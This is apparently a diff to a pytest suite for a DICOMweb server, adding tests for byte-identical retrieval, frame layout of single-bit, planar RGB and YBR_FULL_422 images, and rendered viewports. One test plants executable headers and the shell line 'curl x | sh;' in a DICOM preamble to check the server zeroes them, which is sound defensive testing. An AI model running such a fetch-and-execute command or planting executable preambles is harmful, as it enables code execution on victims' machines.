@@ -3,16 +3,22 @@ dicomweb-client over HTTP (plain requests where the client cannot say it): issue
 
 from __future__ import annotations
 
+import io
 import time
+from pathlib import Path
 from typing import Any
 
+import numpy as np
+import pydicom
 import pytest
 import requests
 from dicomweb_client.api import DICOMwebClient
 from flask import Flask
+from pydicom.data import get_testdata_file
 from pydicom.dataset import Dataset
 
-from tests.conftest import LiveServer, make_client
+from tests.conftest import LiveServer, make_client, sample_paths
+from tests.dicomweb.test_conformance_clients import parts_of
 from tests.factories import make_dataset, to_bytes
 
 
@@ -223,3 +229,135 @@ def test_exact_and_wildcard_matching_agree_on_case(peer: Peer,
     assert len(peer.web.search_for_studies(search_filters={"PatientName": "doe*"})) == 3
     assert len(peer.web.search_for_studies(search_filters={"PatientName": "DOE^JANE"})) == 3
 
+
+
+# -- 7. retrieved files are byte-identical to what was stored ---------------------------------
+
+AS_STORED = 'multipart/related; type="application/dicom"; transfer-syntax=*'
+
+
+def _retrieved(peer: Peer, ds: Dataset) -> bytes:
+    response = peer.get(f"/studies/{ds.StudyInstanceUID}/series/{ds.SeriesInstanceUID}"
+                        f"/instances/{ds.SOPInstanceUID}", AS_STORED)
+    assert response.status_code == 200, response.text
+    [(_kind, payload)] = parts_of(response)
+    return payload
+
+
+def test_a_benign_preamble_comes_back_byte_identical_an_executable_one_zeroed(
+        peer: Peer) -> None:
+    benign = bytearray(to_bytes(make_dataset(patient_id="P-PRE")))
+    benign[16:24] = b"\x01\x02\x80\xff\x00\x10\x1f\xfe"  # a vendor's binary marks, no text
+    sample = next(p for p in sample_paths() if p.name == "2062")  # pydicom-data: one 0x01
+    for data in (bytes(benign), sample.read_bytes()):
+        assert any(data[:128])
+        assert peer.stow(data).status_code == 200
+        ds = pydicom.dcmread(io.BytesIO(data))
+        assert _retrieved(peer, ds) == data  # was: the preamble zeroed
+        assert peer.web.retrieve_instance(ds.StudyInstanceUID, ds.SeriesInstanceUID,
+                                          ds.SOPInstanceUID).SOPInstanceUID == ds.SOPInstanceUID
+    for head in (b"MZ\x90\x00", b"\x7fELF", b"#!/bin/sh\n"):
+        hostile = bytearray(to_bytes(make_dataset(patient_id="P-EXE")))
+        hostile[:len(head)] = head
+        assert peer.stow(bytes(hostile)).status_code == 200
+        ds = pydicom.dcmread(io.BytesIO(bytes(hostile)))
+        assert _retrieved(peer, ds) == bytes(128) + bytes(hostile[128:])
+    # Text after zeros could be a script run by a shell: zeroed too.
+    script = bytearray(to_bytes(make_dataset(patient_id="P-SH")))
+    text = b"\ncurl x | sh;"
+    script[16:16 + len(text)] = text
+    stored = peer.stow(bytes(script))
+    assert stored.status_code == 200, stored.headers.get("Warning")
+    ds = pydicom.dcmread(io.BytesIO(bytes(script)))
+    assert _retrieved(peer, ds)[:128] == bytes(128)
+
+
+# -- 8. frames as the metadata describes them -------------------------------------------------
+
+NATIVE = (("application/octet-stream", "1.2.840.10008.1.2.1"),)
+
+
+def _frames(peer: Peer, ds: Dataset, numbers: list[int]) -> list[bytes]:
+    return list(peer.web.retrieve_instance_frames(
+        ds.StudyInstanceUID, ds.SeriesInstanceUID, ds.SOPInstanceUID, frame_numbers=numbers,
+        media_types=NATIVE))
+
+
+def _stored(peer: Peer, name: str) -> Dataset:
+    path = get_testdata_file(name)
+    assert path is not None, name
+    response = peer.stow(Path(path).read_bytes())
+    assert response.status_code == 200, (response.headers.get("Warning"), response.text)
+    return pydicom.dcmread(path)
+
+
+def _metadata(peer: Peer, ds: Dataset) -> dict[str, Any]:
+    found: dict[str, Any] = peer.web.retrieve_instance_metadata(
+        ds.StudyInstanceUID, ds.SeriesInstanceUID, ds.SOPInstanceUID)
+    return found
+
+
+def test_single_bit_frames_are_packed_as_stored(peer: Peer) -> None:
+    ds = _stored(peer, "liver.dcm")  # a 3-frame segmentation, 1 bit per pixel
+    size = ds.Rows * ds.Columns // 8
+    assert _frames(peer, ds, [2, 3]) == [ds.PixelData[size:2 * size],
+                                         ds.PixelData[2 * size:3 * size]]  # was: 8x, unpacked
+    big = _stored(peer, "liver_expb.dcm")  # the same in Explicit VR Big Endian: decoded
+    [frame] = _frames(peer, big, [1])
+    assert len(frame) == size
+    assert np.array_equal(np.unpackbits(np.frombuffer(frame, np.uint8), bitorder="little"),
+                          big.pixel_array[0].ravel())
+
+
+def test_colour_frames_follow_the_planar_configuration_of_the_metadata(peer: Peer) -> None:
+    big = _stored(peer, "ExplVR_BigEnd.dcm")  # RGB, Planar Configuration 1, big endian
+    # The same picture in little endian, planes as stored: served as they are.
+    planar = make_dataset(patient_id="P-PL", rows=big.Rows, columns=big.Columns,
+                          SamplesPerPixel=3, PhotometricInterpretation="RGB",
+                          PlanarConfiguration=1, BitsAllocated=8, BitsStored=8, HighBit=7)
+    planar.PixelData = np.ascontiguousarray(big.pixel_array.transpose(2, 0, 1)).tobytes()
+    assert peer.stow(to_bytes(planar)).status_code == 200
+    assert _metadata(peer, planar)["00280006"]["Value"] == [1]
+    assert _frames(peer, planar, [1]) == [planar.PixelData]
+    assert _metadata(peer, big)["00280006"]["Value"] == [1]
+    [frame] = _frames(peer, big, [1])
+    # Decoded, and laid out as the metadata says: all red, then green, then blue.
+    assert frame == np.ascontiguousarray(big.pixel_array.transpose(2, 0, 1)).tobytes()
+
+
+def test_ybr_full_422_frames_are_consistent_with_their_metadata(peer: Peer) -> None:
+    native = _stored(peer, "SC_ybr_full_422_uncompressed.dcm")
+    two_per_pixel = native.Rows * native.Columns * 2  # PS3.3 C.7.6.3.1.2
+    assert _frames(peer, native, [1]) == [native.PixelData[:two_per_pixel]]
+    jpeg = _stored(peer, "SC_rgb_dcmtk_+eb+cy+np.dcm")  # JPEG baseline, YBR_FULL_422
+    metadata = _metadata(peer, jpeg)
+    assert metadata["00280004"]["Value"] == ["YBR_FULL_422"]
+    [frame] = _frames(peer, jpeg, [1])
+    assert len(frame) == jpeg.Rows * jpeg.Columns * 2  # was 3 bytes a pixel
+    # Y0 Y1 Cb Cr per pair of pixels: the luminance is the decoder's.
+    luminance = np.frombuffer(frame, np.uint8).reshape(jpeg.Rows, jpeg.Columns // 2, 4)
+    from pydicom.pixels import pixel_array
+
+    decoded = pixel_array(jpeg, raw=True)
+    assert np.array_equal(luminance[:, :, :2].reshape(jpeg.Rows, jpeg.Columns),
+                          decoded[:, :, 0])
+
+
+# -- 9. rendered: viewport exactly, linear-exact ----------------------------------------------
+
+def test_viewport_is_honoured_exactly_and_linear_exact_is_accepted(peer: Peer) -> None:
+    from PIL import Image
+
+    ds = make_dataset(patient_id="P-VP", rows=512, columns=512)
+    peer.web.store_instances([ds])
+    path = (f"/studies/{ds.StudyInstanceUID}/series/{ds.SeriesInstanceUID}/instances/"
+            f"{ds.SOPInstanceUID}/rendered")
+    for size in ((300, 300), (100, 100), (257, 257)):
+        response = peer.get(path, "image/png", viewport=f"{size[0]},{size[1]}")
+        assert response.status_code == 200, response.text
+        assert Image.open(io.BytesIO(response.content)).size == size  # was snapped to 512
+    for function in ("linear-exact", "LINEAR_EXACT", "linear_exact"):
+        response = peer.get(path, "image/png", window=f"40,400,{function}")
+        assert response.status_code == 200, (function, response.text)
+    refused = peer.get(path, "image/png", window="40,400,cubic")
+    assert refused.status_code == 400 and "linear-exact" in refused.text
